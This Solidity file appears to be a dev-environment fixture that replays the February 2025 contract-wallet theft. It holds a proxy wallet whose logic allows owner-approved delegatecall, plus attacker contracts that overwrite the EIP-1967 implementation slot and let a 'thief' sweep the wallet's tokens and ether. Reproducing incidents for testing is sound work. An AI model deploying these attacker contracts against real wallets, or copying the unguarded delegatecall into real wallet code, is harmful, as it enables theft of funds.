// SPDX-License-Identifier: Apache-2.0
// DevWallet is the contract wallet `cordon dev` holds funds in: a
// multisig-style proxy, as exchanges' contract wallets are, whose logic
// lives in the implementation its EIP-1967 slot names; every call is
// delegated to it. DevAttacker and DevAttackerLogic replay the February
// 2025 theft on it: a "tampered front end" has an owner approve a
// delegatecall into the attacker's contract, which rewrites the
// implementation slot; the attacker's logic then sweeps the funds.
pragma solidity 0.8.28;

interface IDevToken {
    function transfer(address to, uint256 value) external returns (bool);
    function balanceOf(address a) external view returns (uint256);
}

// EIP-1967: bytes32(uint256(keccak256("eip1967.proxy.implementation")) - 1)
bytes32 constant IMPLEMENTATION_SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

contract DevWallet {
    // Slot 0: the owners, shared with the logic contracts' layout.
    address[] internal owners;

    constructor(address implementation, address[] memory initialOwners) {
        owners = initialOwners;
        assembly {
            sstore(IMPLEMENTATION_SLOT, implementation)
        }
    }

    receive() external payable {}

    fallback() external payable {
        assembly {
            let impl := sload(IMPLEMENTATION_SLOT)
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), impl, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }
}

// DevWalletLogic is the wallet's genuine implementation.
contract DevWalletLogic {
    address[] internal owners;

    event Executed(address indexed to, uint256 value, uint8 operation);

    function getOwners() external view returns (address[] memory) {
        return owners;
    }

    function isOwner(address a) public view returns (bool) {
        for (uint256 i = 0; i < owners.length; i++) {
            if (owners[i] == a) {
                return true;
            }
        }
        return false;
    }

    // execute is Safe's execTransaction without its signatures (the dev
    // asks one owner): a call (operation 0) or a delegatecall (1).
    function execute(address to, uint256 value, bytes calldata data, uint8 operation) external returns (bool ok) {
        require(isOwner(msg.sender), "not an owner");
        if (operation == 1) {
            (ok, ) = to.delegatecall(data);
        } else {
            (ok, ) = to.call{value: value}(data);
        }
        require(ok, "execution failed");
        emit Executed(to, value, operation);
    }

    // setOwners replaces the owners; only the wallet itself may (an
    // owner's execute calling the wallet).
    function setOwners(address[] calldata next) external {
        require(msg.sender == address(this), "only through execute");
        owners = next;
    }

    function transferToken(address token, address to, uint256 amount) external {
        require(isOwner(msg.sender), "not an owner");
        require(IDevToken(token).transfer(to, amount), "transfer failed");
    }

    function pay(address payable to, uint256 amount) external {
        require(isOwner(msg.sender), "not an owner");
        to.transfer(amount);
    }
}

// DevAttacker is what the tampered front end has the owner delegatecall:
// run in the wallet's context, it rewrites the wallet's implementation.
contract DevAttacker {
    function upgrade(address implementation) external {
        assembly {
            sstore(IMPLEMENTATION_SLOT, implementation)
        }
    }
}

// DevAttackerLogic is the attacker's implementation: whoever deployed
// it sweeps the wallet.
contract DevAttackerLogic {
    address[] internal owners;
    address public immutable thief;

    constructor() {
        thief = msg.sender;
    }

    function getOwners() external view returns (address[] memory) {
        return owners;
    }

    function sweep(address token, address payable to) external {
        require(msg.sender == thief, "not the thief");
        uint256 units = IDevToken(token).balanceOf(address(this));
        if (units > 0) {
            require(IDevToken(token).transfer(to, units), "transfer failed");
        }
        to.transfer(address(this).balance);
    }
}
